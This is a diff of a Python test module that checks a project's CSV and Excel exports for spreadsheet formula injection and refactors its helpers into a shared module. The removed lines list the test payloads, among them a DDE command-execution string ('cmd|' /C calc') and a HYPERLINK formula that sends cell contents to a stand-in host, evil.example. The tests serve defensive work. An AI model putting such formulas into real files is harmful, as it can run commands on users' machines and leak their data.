@@ -1,16 +1,13 @@
-"""G25, the part about files: 200 formula payloads, and no cell that a spreadsheet would run."""
+"""G25, the part about files: more than 200 formula payloads in every file given out, and no cell that would run."""
 
 from __future__ import annotations
 
 import csv
 import io
-import re
-import unicodedata
 import zipfile
 from datetime import UTC, datetime
-from itertools import product
-from xml.sax.saxutils import unescape
 
+import pytest
 import xlsxwriter
 
 from app.kit import csv_text
@@ -19,43 +16,9 @@ from app.standards.htcds import sheet_file
 from app.standards.htcds.book import Book
 from app.standards.htcds.rows import rows_of
 from policies.load import load_policies
+from tests.gates.formulas import FILES, holding, live, live_cells, payloads
 
-STARTS = ("=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c")
-HIDES = (
-    "", " ", "\ufeff", "\u200b", "\u200e", "\u2060", "\x00", "\x1f", "\u00a0", "\u3000", "\u00ad \ufeff", "'\u200b",
-)  # fmt: skip
-BODIES = ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"open")')
-# What spreadsheets, on one system or another, skip before they look at the first letter of a cell.
-SKIPPED = re.compile(r"^[\s\x00-\x20\x7f-\xa0\u00ad\u200b-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff\"]+")
 FEWEST = 200
-
-
-def live(text: str) -> bool:
-    """Whether a spreadsheet could take this cell for a formula; written apart from the guard on purpose."""
-    seen = SKIPPED.sub("", unicodedata.normalize("NFKC", text))
-    return seen[:1] in set("=+-@|%\t\r")
-
-
-def live_cells(content: bytes) -> int:
-    """Cells of a file that are live, read with each separator a spreadsheet may guess."""
-    found = 0
-    for separator in (",", ";", "\t"):
-        for row in csv.reader(io.StringIO(content.decode("utf-8")), delimiter=separator):
-            found += sum(live(each) for each in row)
-    return found
-
-
-def live_in_workbook(content: bytes) -> tuple[int, int]:
-    """Cells of a workbook that are formulas, links or live text, and how many texts it holds at all."""
-    book = zipfile.ZipFile(io.BytesIO(content))
-    sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
-    formulas = sum(len(re.findall(r"<f[ >/]|<hyperlink|t=\"str\"|DDE", each)) for each in sheets)
-    shared = book.read("xl/sharedStrings.xml").decode()
-    texts = [unescape(each) for each in re.findall(r"<t[^>]*>([^<]*)</t>", shared)]
-    parts = [name for name in book.namelist() if "externalLink" in name or "vba" in name.lower()]
-    # Texts that are the same are kept once; the cells that hold them are counted.
-    cells = sum(each.count('t="s"') for each in sheets)
-    return formulas + len(parts) + sum(live(each) for each in texts), cells
 
 
 def unguarded(value: object) -> str:
@@ -63,11 +26,27 @@ def unguarded(value: object) -> str:
     return str(value)
 
 
-def payloads() -> list[str]:
-    return [hide + start + body for hide, start, body in product(HIDES, STARTS, BODIES)]
+@pytest.mark.parametrize("name", FILES)
+def test_no_file_that_is_given_out_holds_a_formula(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    content = FILES[name]()
+    found, held = live_cells(content), holding(content)
+    assert found == 0 and held >= FEWEST
+    # The mutant: cells as they came.
+    monkeypatch.setattr(csv_text, "cell", unguarded)
+    monkeypatch.setattr(csv_text, "shielded", unguarded)
+    mutant = live_cells(FILES[name]())
+    assert mutant >= FEWEST, "a file without the guard would not be noticed"
+    print(f"GATE g25 file={name} live_cells={found} limit=0 n={held} mutant={mutant}")
 
 
-def test_no_formula_leaves_in_a_file(monkeypatch: object) -> None:
+def test_a_shield_keeps_lines_and_letters_and_changes_nothing_else() -> None:
+    assert csv_text.shielded("one\n=two\u200bthree") == "one\n=two\u200bthree"
+    assert csv_text.shielded(" \u200b=1+1\nnext") == "'=1+1\nnext"
+    assert csv_text.shielded("'=1") == "''=1" and csv_text.shielded("\uff1d1") == "'\uff1d1"
+    assert csv_text.shielded("") == "" and csv_text.shielded("'") == "'"
+
+
+def test_no_formula_leaves_in_a_file() -> None:
     attacks = payloads()
     assert len(set(attacks)) >= FEWEST and all(live(attack) for attack in attacks if not attack.startswith("'"))
     guarded = sum(live(csv_text.cell(attack)) for attack in attacks)
@@ -95,7 +74,7 @@ def test_no_formula_leaves_in_a_workbook() -> None:
     attacks = payloads()
     at = datetime(2026, 11, 27, tzinfo=UTC)
     content = workbook({"Table": [["text"], *([attack] for attack in attacks)]}, at)
-    found, texts = live_in_workbook(content)
+    found, texts = live_cells(content), holding(content)
     assert found == 0 and texts >= FEWEST
     assert content == workbook({"Table": [["text"], *([attack] for attack in attacks)]}, at), "the same bytes"
     # The mutant: a library that takes text for what it looks like.
@@ -105,7 +84,7 @@ def test_no_formula_leaves_in_a_workbook() -> None:
     for row, attack in enumerate(attacks):
         sheet.write(row, 0, attack)
     book.close()
-    mutant, _ = live_in_workbook(written.getvalue())
+    mutant = live_cells(written.getvalue())
     assert mutant
     print(f"GATE g25 live_workbook_cells={found} limit=0 n={len(attacks)} mutant={mutant}")
 
@@ -117,7 +96,7 @@ def test_no_formula_leaves_in_a_workbook_of_a_standard() -> None:
     rows = [rows_of(standard, each["prs_FirstName"], each, {}, {}, {"x_a": each["prs_FirstName"]})[0] for each in said]
     at = datetime(2026, 11, 27, tzinfo=UTC)
     made = [sheet_file.write(Book(standard, "csv"), rows, attacks[:5], ("x_a",), made_at=at)[0] for _ in range(2)]
-    found, texts = live_in_workbook(made[0])
+    found, texts = live_cells(made[0]), holding(made[0])
     assert found == 0 and texts >= FEWEST
     assert made[0] == made[1], "the same bytes"
 
